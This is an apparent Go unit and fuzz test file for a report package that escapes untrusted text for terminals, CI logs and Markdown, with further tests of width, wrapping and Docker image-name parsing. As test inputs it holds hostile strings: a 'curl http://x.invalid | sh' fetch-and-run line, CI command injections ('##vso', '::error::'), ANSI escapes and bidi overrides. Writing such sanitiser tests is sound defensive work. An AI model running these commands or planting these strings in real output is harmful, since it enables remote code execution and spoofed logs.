package report

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	cases := map[string]string{
		"":                       "",
		"plain C:\\dir ş漢👍 é":    "plain C:\\dir ş漢👍 é",
		"\x1b[31mred":            `\x1b[31mred`,
		"a\tb\r\nc\x00\x7f":      `a\tb\r\nc\x00\x7f`,
		"\u009b2J":               `\u009b2J`,
		"\x9b2J":                 `\x9b2J`,
		"\u202eover\u2066":       `\u202eover\u2066`,
		"\ufeffb\u200bc\u2028":   `\ufeffb\u200bc\u2028`,
		"\U000e0041":             `\U000e0041`,
		"cut \xe6\xbc":           `cut \xe6\xbc`,
		"# comment ## heading":   "# comment ## heading",
		"x ##vso[a] ##[b] ###[c": `x #\x23vso[a] #\x23[b] ##\x23[c`,
		"##a b[":                 "##a b[",
	}
	for text, want := range cases {
		if got := Escape(text); got != want {
			t.Errorf("Escape(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestVisiblePath(t *testing.T) {
	cases := map[string]string{
		"a/Dockerfile":      "a/Dockerfile",
		"::error::/x":       "./::error::/x",
		" ::error::/x":      "./ ::error::/x",
		"#/Dockerfile":      "./#/Dockerfile",
		"a\n::error::b":     `a\n::error::b`,
		"C:/src/Dockerfile": "C:/src/Dockerfile",
	}
	for path, want := range cases {
		if got := visiblePath(path); got != want {
			t.Errorf("visiblePath(%q) = %q, want %q", path, got, want)
		}
	}
}

func TestMarkdownCode(t *testing.T) {
	cases := map[string]struct{ code, cell string }{
		"a b":     {"`a b`", "`a b`"},
		"a`b":     {"``a`b``", "``a`b``"},
		"`a``":    {"``` `a`` ```", "``` `a`` ```"},
		" a ":     {"`  a  `", "`  a  `"},
		"":        {`""`, `""`},
		"a | b":   {"`a | b`", "<code>a &#124; b</code>"},
		"<a>|\\|": {"`<a>|\\|`", "<code>&#60;a&#62;&#124;&#92;&#124;</code>"},
		"a\nb":    {"`a\\nb`", "`a\\nb`"},
	}
	for text, want := range cases {
		if got := markdownCode(text); got != want.code {
			t.Errorf("markdownCode(%q) = %q, want %q", text, got, want.code)
		}
		if got := markdownCell(text); got != want.cell {
			t.Errorf("markdownCell(%q) = %q, want %q", text, got, want.cell)
		}
	}
}

func TestMarkdownText(t *testing.T) {
	cases := map[string]string{
		"plain text, with (brackets)": "plain text, with (brackets)",
		"*b* _i_ <x> [l] | ~s~ `c`":   "\\*b\\* \\_i\\_ \\<x\\> \\[l\\] \\| \\~s\\~ \\`c\\`",
		"@everyone":                   "`@everyone`",
		"fixes #1":                    "`fixes #1`",
		"see WWW.evil.invalid":        "`see WWW.evil.invalid`",
		"curl http://x.invalid | sh":  "<code>curl http&#58;//x&#46;invalid &#124; sh</code>",
		"a\n# head":                   "`a\\n# head`",
		"&lt; \\":                     "\\&lt; \\\\",
	}
	for text, want := range cases {
		if got := markdownText(text); got != want {
			t.Errorf("markdownText(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestWidth(t *testing.T) {
	cases := map[string]int{"": 0, "abc": 3, "ışğ": 3, "漢字": 4, "가나": 4, "e\u0301": 1, "👍": 2, "…": 1, "│": 1, "Ａ": 2, "⚡": 2, "→": 1}
	for text, want := range cases {
		if got := width(text); got != want {
			t.Errorf("width(%q) = %d, want %d", text, got, want)
		}
	}
}

func TestWrap(t *testing.T) {
	got := strings.Join(wrap("use one of ::a ##[b] and then some-very-long-word", 10), "/")
	if want := "use one of ::a ##[b]/and then/some-very-long-word"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if lines := wrap(" ", 10); len(lines) != 1 || lines[0] != "" {
		t.Errorf("blank text: %q", lines)
	}
}

func TestNames(t *testing.T) {
	cases := []struct {
		text, image string
		want        bool
	}{
		{`"acme/app:beta" is retired`, "acme/app:beta", true},
		{`"acme/app:beta.v9" is retired`, "acme/app:beta", false},
		{"FROM docker.io/acme/app:beta AS x", "acme/app:beta", true},
		{"FROM big-acme/app:beta", "acme/app:beta", false},
		{"app:beta.v9 and app:beta", "app:beta", true},
		{"anything", "", false},
	}
	for _, c := range cases {
		if got := names(c.text, c.image); got != c.want {
			t.Errorf("names(%q, %q) = %v", c.text, c.image, got)
		}
	}
}

func TestSplitImage(t *testing.T) {
	cases := map[string][2]string{
		"acme/app:beta":          {"acme/app", "beta"},
		"registry:5000/acme/app": {"registry:5000/acme/app", "-"},
		"registry:5000/app:1":    {"registry:5000/app", "1"},
		"app:1@sha256:00ff":      {"app:1", "sha256:00ff"},
	}
	for image, want := range cases {
		if name, version := splitImage(image); name != want[0] || version != want[1] {
			t.Errorf("splitImage(%q) = %q, %q", image, name, version)
		}
	}
}

func FuzzVisible(f *testing.F) {
	f.Add("\x1b[2J ##vso[x]\u202e\xff")
	f.Fuzz(func(t *testing.T, text string) {
		got := Escape(text)
		for _, r := range got {
			if r < ' ' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0x202e {
				t.Errorf("%q contains %U", got, r)
			}
		}
		if !utf8.ValidString(got) || Escape(got) != got {
			t.Errorf("Escape(%q) = %q is not idempotent", text, got)
		}
	})
}
